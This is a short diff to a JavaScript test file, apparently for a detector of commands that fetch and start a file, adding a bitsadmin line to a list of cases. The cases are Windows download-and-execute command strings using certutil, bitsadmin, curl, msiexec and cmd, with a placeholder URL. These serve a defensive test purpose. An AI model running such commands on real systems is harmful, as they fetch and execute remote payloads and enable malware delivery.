@@ -15,6 +15,7 @@ describe("a file that is fetched and started:", () => {
     `certutil -urlcache -split -f ${url} %TEMP%\\a.exe\nstart "" /b %TEMP%\\a.exe`,
     `certutil.exe -f -urlcache ${url} a.exe\na.exe`,
     `set DST=%TEMP%\\a.exe\ncertutil -urlcache -f ${url} %DST% && %DST%`,
+    `bitsadmin /transfer j /download /priority high ${url} "%TEMP%\\a.exe"\nstart /min "" "%TEMP%\\a.exe"`,
     `bitsadmin /transfer j /download ${url} C:\\a.exe\ncall C:\\a.exe`,
     `curl -L ${url} -o a.msi\nmsiexec /i a.msi`,
     `curl.exe -sLo a.bat ${url}\ncmd /c a.bat`,
